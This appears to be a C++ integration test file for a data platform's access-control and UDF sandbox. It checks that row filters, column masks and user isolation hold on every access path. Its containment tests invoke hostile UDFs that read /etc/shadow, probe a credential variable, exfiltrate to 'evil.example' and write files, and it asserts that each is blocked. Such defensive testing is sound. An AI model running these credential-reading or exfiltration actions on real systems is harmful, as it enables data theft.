@@ -1,0 +1,398 @@
+// Cross-module integration and security-property tests — the invariants of
+// DESIGN.md §5, exercised through the full platform: no policy bypass on
+// any access path, sandbox containment for arbitrary hostile code, fusion
+// soundness, and multi-user isolation end to end.
+
+#include <gtest/gtest.h>
+
+#include <set>
+
+#include "core/platform.h"
+#include "sql/parser.h"
+#include "udf/builder.h"
+
+namespace lakeguard {
+namespace {
+
+/// A platform with the paper's healthcare/sales shape: one FGAC-governed
+/// table, one PII-hiding view, three users with different rights.
+class IntegrationFixture : public ::testing::Test {
+ protected:
+  IntegrationFixture() { Init(QueryEngineConfig{}); }
+
+  explicit IntegrationFixture(QueryEngineConfig config) { Init(config); }
+
+  void Init(QueryEngineConfig config) {
+    LakeguardPlatform::Options options;
+    options.engine_config = config;
+    platform_ = std::make_unique<LakeguardPlatform>(options);
+    ASSERT_TRUE(platform_->AddUser("admin").ok());
+    ASSERT_TRUE(platform_->AddUser("us_analyst").ok());
+    ASSERT_TRUE(platform_->AddUser("global_analyst").ok());
+    ASSERT_TRUE(platform_->AddUser("outsider").ok());
+    ASSERT_TRUE(platform_->AddGroup("global").ok());
+    ASSERT_TRUE(platform_->AddUserToGroup("global_analyst", "global").ok());
+    platform_->AddMetastoreAdmin("admin");
+    for (const char* u : {"admin", "us_analyst", "global_analyst",
+                          "outsider"}) {
+      platform_->RegisterToken(std::string("tok-") + u, u);
+    }
+    ASSERT_TRUE(platform_->catalog().CreateCatalog("admin", "main").ok());
+    ASSERT_TRUE(platform_->catalog().CreateSchema("admin", "main.s").ok());
+    cluster_ = platform_->CreateStandardCluster();
+    admin_ctx_ = *platform_->DirectContext(cluster_, "admin");
+
+    Must("CREATE TABLE main.s.sales ("
+         "region STRING, amount BIGINT, ssn STRING)");
+    Must("INSERT INTO main.s.sales VALUES "
+         "('US', 10, '111-11-1111'), ('US', 20, '222-22-2222'), "
+         "('EU', 30, '333-33-3333'), ('APAC', 40, '444-44-4444')");
+    Must("ALTER TABLE main.s.sales SET ROW FILTER "
+         "(region = 'US' OR IS_ACCOUNT_GROUP_MEMBER('global'))");
+    Must("ALTER TABLE main.s.sales ALTER COLUMN ssn SET MASK (MASK(ssn))");
+    for (const char* u : {"us_analyst", "global_analyst"}) {
+      Must(std::string("GRANT USE CATALOG ON main TO ") + u);
+      Must(std::string("GRANT USE SCHEMA ON main.s TO ") + u);
+      Must(std::string("GRANT SELECT ON main.s.sales TO ") + u);
+    }
+  }
+
+  void Must(const std::string& sql) {
+    auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
+    ASSERT_TRUE(result.ok()) << sql << " -> " << result.status();
+  }
+
+  /// The ground truth: rows of `sales` the policy allows `user` to see.
+  size_t ExpectedVisibleRows(const std::string& user) {
+    if (user == "admin") return 4;  // owner bypass... admin is owner
+    if (platform_->catalog().users().IsMember(user, "global")) return 4;
+    return 2;  // US rows only
+  }
+
+  std::unique_ptr<LakeguardPlatform> platform_;
+  ClusterHandle* cluster_ = nullptr;
+  ExecutionContext admin_ctx_;
+};
+
+// ---- Invariant: no policy bypass on any access path --------------------------------------
+
+class PolicyBypassTest
+    : public IntegrationFixture,
+      public ::testing::WithParamInterface<std::tuple<const char*, int>> {};
+
+TEST_P(PolicyBypassTest, VisibleRowsMatchPolicyOnEveryPath) {
+  auto [user, path] = GetParam();
+  const std::string user_s(user);
+
+  size_t rows = 0;
+  std::string first_ssn;
+  switch (path) {
+    case 0: {  // SQL over the Connect wire
+      auto client = platform_->Connect(cluster_, "tok-" + user_s);
+      ASSERT_TRUE(client.ok());
+      auto result =
+          client->Sql("SELECT region, ssn FROM main.s.sales");
+      ASSERT_TRUE(result.ok()) << result.status();
+      rows = result->num_rows();
+      if (rows > 0) first_ssn = result->Combine()->CellAt(0, 1).ToString();
+      break;
+    }
+    case 1: {  // DataFrame API
+      auto client = platform_->Connect(cluster_, "tok-" + user_s);
+      ASSERT_TRUE(client.ok());
+      auto result = client->ReadTable("main.s.sales")
+                        .Select({Col("region"), Col("ssn")},
+                                {"region", "ssn"})
+                        .Collect();
+      ASSERT_TRUE(result.ok()) << result.status();
+      rows = result->num_rows();
+      if (rows > 0) first_ssn = result->Combine()->CellAt(0, 1).ToString();
+      break;
+    }
+    case 2: {  // aggregation must count only policy-visible rows
+      auto client = platform_->Connect(cluster_, "tok-" + user_s);
+      ASSERT_TRUE(client.ok());
+      auto result =
+          client->Sql("SELECT COUNT(*) AS n FROM main.s.sales");
+      ASSERT_TRUE(result.ok());
+      rows = static_cast<size_t>(
+          result->Combine()->CellAt(0, 0).int_value());
+      break;
+    }
+    case 3: {  // eFGAC from a dedicated cluster
+      ClusterHandle* dedicated =
+          platform_->CreateDedicatedCluster(user_s, false);
+      auto ctx = platform_->DirectContext(dedicated, user_s);
+      ASSERT_TRUE(ctx.ok());
+      auto result = dedicated->engine->ExecuteSql(
+          "SELECT region, ssn FROM main.s.sales", *ctx);
+      ASSERT_TRUE(result.ok()) << result.status();
+      rows = result->num_rows();
+      if (rows > 0) first_ssn = result->Combine()->CellAt(0, 1).ToString();
+      break;
+    }
+  }
+  EXPECT_EQ(rows, ExpectedVisibleRows(user_s)) << user_s << " path " << path;
+  if (!first_ssn.empty() && user_s != "admin") {
+    // Masks hold on every path too.
+    EXPECT_EQ(first_ssn.find("111-11"), std::string::npos);
+    EXPECT_NE(first_ssn.find("****"), std::string::npos);
+  }
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    UsersTimesPaths, PolicyBypassTest,
+    ::testing::Combine(::testing::Values("us_analyst", "global_analyst"),
+                       ::testing::Values(0, 1, 2, 3)));
+
+TEST_F(IntegrationFixture, OutsiderDeniedOnEveryPath) {
+  auto client = platform_->Connect(cluster_, "tok-outsider");
+  ASSERT_TRUE(client.ok());
+  EXPECT_FALSE(client->Sql("SELECT * FROM main.s.sales").ok());
+  EXPECT_FALSE(client->ReadTable("main.s.sales").Collect().ok());
+  ClusterHandle* dedicated =
+      platform_->CreateDedicatedCluster("outsider", false);
+  auto ctx = *platform_->DirectContext(dedicated, "outsider");
+  EXPECT_FALSE(
+      dedicated->engine->ExecuteSql("SELECT * FROM main.s.sales", ctx).ok());
+}
+
+// ---- Invariant: sandbox containment for hostile code ---------------------------------------
+
+class ContainmentTest : public IntegrationFixture,
+                        public ::testing::WithParamInterface<int> {};
+
+TEST_P(ContainmentTest, HostileUdfNeverReachesTheMachine) {
+  SimulatedHostEnvironment& host = cluster_->cluster->driver_host().env();
+  host.SetEnv("INSTANCE_CREDENTIAL", "top-secret");
+  host.WriteFile("/etc/shadow", "root:hash");
+
+  UdfBytecode hostile;
+  switch (GetParam()) {
+    case 0:
+      hostile = canned::FileExfiltrationUdf("/etc/shadow");
+      break;
+    case 1:
+      hostile = canned::EnvProbeUdf("INSTANCE_CREDENTIAL");
+      break;
+    case 2:
+      hostile = canned::NetworkExfiltrationUdf("http://evil.example/steal");
+      break;
+    case 3:
+      hostile = canned::InfiniteLoopUdf();
+      break;
+    case 4: {  // write attempt
+      UdfBuilder b("writer", 0, TypeKind::kBool);
+      b.PushConst(Value::String("/tmp/pwned"));
+      b.PushConst(Value::String("gotcha"));
+      b.CallHost(HostFn::kWriteFile, 2);
+      b.Ret();
+      hostile = *b.Build();
+      break;
+    }
+  }
+  FunctionInfo fn;
+  fn.full_name = "main.s.hostile";
+  fn.num_args = hostile.num_args;
+  fn.return_type = TypeKind::kString;
+  fn.body = hostile;
+  ASSERT_TRUE(platform_->catalog().CreateFunction("admin", fn).ok());
+  ASSERT_TRUE(platform_->catalog()
+                  .Grant("admin", "main.s.hostile", Privilege::kExecute,
+                         "us_analyst")
+                  .ok());
+
+  auto client = platform_->Connect(cluster_, "tok-us_analyst");
+  ASSERT_TRUE(client.ok());
+  std::string args = hostile.num_args == 0 ? "()" : "(ssn)";
+  auto result = client->Sql("SELECT main.s.hostile" + args +
+                            " AS r FROM main.s.sales");
+  // Every hostile program must FAIL — with permission_denied or
+  // resource_exhausted — and must not have altered the machine.
+  ASSERT_FALSE(result.ok());
+  EXPECT_TRUE(result.status().message().find("permission_denied") !=
+                  std::string::npos ||
+              result.status().message().find("resource_exhausted") !=
+                  std::string::npos)
+      << result.status();
+  EXPECT_FALSE(host.FileExists("/tmp/pwned"));
+  // No egress left the machine.
+  for (const EgressRecord& r : host.egress_log()) {
+    EXPECT_FALSE(r.allowed) << r.url;
+  }
+}
+
+INSTANTIATE_TEST_SUITE_P(HostilePrograms, ContainmentTest,
+                         ::testing::Range(0, 5));
+
+// ---- Invariant: fusion soundness ------------------------------------------------------------
+
+class FusionSoundnessTest : public ::testing::Test {
+ protected:
+  Table RunWith(bool fuse, bool isolate) {
+    LakeguardPlatform::Options options;
+    options.engine_config.exec.fuse_udfs = fuse;
+    options.engine_config.exec.isolate_udfs = isolate;
+    options.engine_config.opt.enable_fusion = fuse;
+    LakeguardPlatform platform(options);
+    EXPECT_TRUE(platform.AddUser("admin").ok());
+    platform.AddMetastoreAdmin("admin");
+    EXPECT_TRUE(platform.catalog().CreateCatalog("admin", "main").ok());
+    EXPECT_TRUE(platform.catalog().CreateSchema("admin", "main.s").ok());
+    ClusterHandle* cluster = platform.CreateStandardCluster();
+    auto ctx = *platform.DirectContext(cluster, "admin");
+    EXPECT_TRUE(cluster->engine
+                    ->ExecuteSql("CREATE TABLE main.s.t (a BIGINT, b BIGINT)",
+                                 ctx)
+                    .ok());
+    EXPECT_TRUE(cluster->engine
+                    ->ExecuteSql("INSERT INTO main.s.t VALUES "
+                                 "(1, 2), (3, 4), (5, 6), (7, 8)",
+                                 ctx)
+                    .ok());
+    for (const char* name : {"f1", "f2", "f3"}) {
+      FunctionInfo fn;
+      fn.full_name = std::string("main.s.") + name;
+      fn.num_args = 2;
+      fn.return_type = TypeKind::kInt64;
+      fn.body = canned::SumUdf();
+      EXPECT_TRUE(platform.catalog().CreateFunction("admin", fn).ok());
+    }
+    auto result = cluster->engine->ExecuteSql(
+        "SELECT main.s.f1(a, b) AS s1, main.s.f2(a, 10) AS s2, "
+        "main.s.f3(b, 100) AS s3, a + b AS plain "
+        "FROM main.s.t ORDER BY s1",
+        ctx);
+    EXPECT_TRUE(result.ok()) << result.status();
+    return result.ok() ? *result : Table();
+  }
+};
+
+TEST_F(FusionSoundnessTest, FusedUnfusedIsolatedUnisolatedAllAgree) {
+  Table fused_isolated = RunWith(true, true);
+  Table unfused_isolated = RunWith(false, true);
+  Table fused_inproc = RunWith(true, false);
+  Table unfused_inproc = RunWith(false, false);
+  ASSERT_EQ(fused_isolated.num_rows(), 4u);
+  EXPECT_TRUE(fused_isolated.Equals(unfused_isolated));
+  EXPECT_TRUE(fused_isolated.Equals(fused_inproc));
+  EXPECT_TRUE(fused_isolated.Equals(unfused_inproc));
+}
+
+TEST_F(FusionSoundnessTest, FusionUsesFewerSandboxBoundaryCrossings) {
+  auto run = [](bool fuse) -> uint64_t {
+    LakeguardPlatform::Options options;
+    options.engine_config.exec.fuse_udfs = fuse;
+    LakeguardPlatform platform(options);
+    EXPECT_TRUE(platform.AddUser("admin").ok());
+    platform.AddMetastoreAdmin("admin");
+    EXPECT_TRUE(platform.catalog().CreateCatalog("admin", "main").ok());
+    EXPECT_TRUE(platform.catalog().CreateSchema("admin", "main.s").ok());
+    ClusterHandle* cluster = platform.CreateStandardCluster();
+    auto ctx = *platform.DirectContext(cluster, "admin");
+    EXPECT_TRUE(
+        cluster->engine
+            ->ExecuteSql("CREATE TABLE main.s.t (a BIGINT, b BIGINT)", ctx)
+            .ok());
+    EXPECT_TRUE(cluster->engine
+                    ->ExecuteSql("INSERT INTO main.s.t VALUES (1, 2)", ctx)
+                    .ok());
+    for (const char* name : {"g1", "g2", "g3", "g4"}) {
+      FunctionInfo fn;
+      fn.full_name = std::string("main.s.") + name;
+      fn.num_args = 2;
+      fn.return_type = TypeKind::kInt64;
+      fn.body = canned::SumUdf();
+      EXPECT_TRUE(platform.catalog().CreateFunction("admin", fn).ok());
+    }
+    EXPECT_TRUE(cluster->engine
+                    ->ExecuteSql(
+                        "SELECT main.s.g1(a,b) AS x1, main.s.g2(a,b) AS x2, "
+                        "main.s.g3(a,b) AS x3, main.s.g4(a,b) AS x4 "
+                        "FROM main.s.t",
+                        ctx)
+                    .ok());
+    // Count boundary crossings across all sandboxes of the driver host.
+    return platform.clusters()
+        .ActiveClusters()[1]  // [0] is the serverless backbone
+        ->driver_host()
+        .dispatcher()
+        .stats()
+        .cold_starts;
+  };
+  uint64_t fused_sandboxes = run(true);
+  uint64_t unfused_sandboxes = run(false);
+  EXPECT_EQ(fused_sandboxes, 1u);   // one trust domain -> one sandbox
+  EXPECT_EQ(unfused_sandboxes, 4u); // one per UDF without fusion
+}
+
+// ---- Multi-user session isolation end to end -----------------------------------------------
+
+TEST_F(IntegrationFixture, ConcurrentSessionsSeeTheirOwnWorld) {
+  auto us = platform_->Connect(cluster_, "tok-us_analyst");
+  auto global = platform_->Connect(cluster_, "tok-global_analyst");
+  ASSERT_TRUE(us.ok());
+  ASSERT_TRUE(global.ok());
+  // Interleaved queries on the same cluster.
+  for (int i = 0; i < 3; ++i) {
+    auto us_rows = us->Sql("SELECT COUNT(*) AS n FROM main.s.sales");
+    auto global_rows = global->Sql("SELECT COUNT(*) AS n FROM main.s.sales");
+    ASSERT_TRUE(us_rows.ok());
+    ASSERT_TRUE(global_rows.ok());
+    EXPECT_EQ(us_rows->Combine()->CellAt(0, 0).int_value(), 2);
+    EXPECT_EQ(global_rows->Combine()->CellAt(0, 0).int_value(), 4);
+  }
+}
+
+TEST_F(IntegrationFixture, AuditAttributesEveryAccess) {
+  auto us = platform_->Connect(cluster_, "tok-us_analyst");
+  ASSERT_TRUE(us.ok());
+  ASSERT_TRUE(us->Sql("SELECT amount FROM main.s.sales").ok());
+  auto events = platform_->catalog().audit().ForPrincipal("us_analyst");
+  bool resolved = false;
+  for (const AuditEvent& e : events) {
+    if (e.action == "RESOLVE_RELATION" && e.securable == "main.s.sales" &&
+        e.allowed) {
+      resolved = true;
+      EXPECT_EQ(e.compute_id, cluster_->cluster->id());
+    }
+  }
+  EXPECT_TRUE(resolved);
+}
+
+TEST_F(IntegrationFixture, RevocationTakesEffectOnNextQuery) {
+  auto us = platform_->Connect(cluster_, "tok-us_analyst");
+  ASSERT_TRUE(us.ok());
+  ASSERT_TRUE(us->Sql("SELECT amount FROM main.s.sales").ok());
+  Must("REVOKE SELECT ON main.s.sales FROM us_analyst");
+  EXPECT_FALSE(us->Sql("SELECT amount FROM main.s.sales").ok());
+}
+
+TEST_F(IntegrationFixture, PolicyChangeAppliesImmediately) {
+  auto us = platform_->Connect(cluster_, "tok-us_analyst");
+  ASSERT_TRUE(us.ok());
+  auto before = us->Sql("SELECT COUNT(*) AS n FROM main.s.sales");
+  EXPECT_EQ(before->Combine()->CellAt(0, 0).int_value(), 2);
+  Must("ALTER TABLE main.s.sales DROP ROW FILTER");
+  auto after = us->Sql("SELECT COUNT(*) AS n FROM main.s.sales");
+  EXPECT_EQ(after->Combine()->CellAt(0, 0).int_value(), 4);
+}
+
+TEST_F(IntegrationFixture, ViewOverFgacTableComposesPolicies) {
+  Must("CREATE VIEW main.s.summed AS "
+       "SELECT region, SUM(amount) AS total FROM main.s.sales "
+       "GROUP BY region");
+  Must("GRANT SELECT ON main.s.summed TO us_analyst");
+  auto us = platform_->Connect(cluster_, "tok-us_analyst");
+  ASSERT_TRUE(us.ok());
+  auto rows = us->Sql("SELECT region, total FROM main.s.summed");
+  ASSERT_TRUE(rows.ok()) << rows.status();
+  // View owner (admin) sees all rows; the view definition runs with
+  // definer's rights, so the row filter evaluates for... the querying user
+  // via CURRENT_USER/IS_MEMBER. us_analyst is not in 'global': only US.
+  EXPECT_EQ(rows->num_rows(), 1u);
+  EXPECT_EQ(rows->Combine()->CellAt(0, 1).int_value(), 30);
+}
+
+}  // namespace
+}  // namespace lakeguard
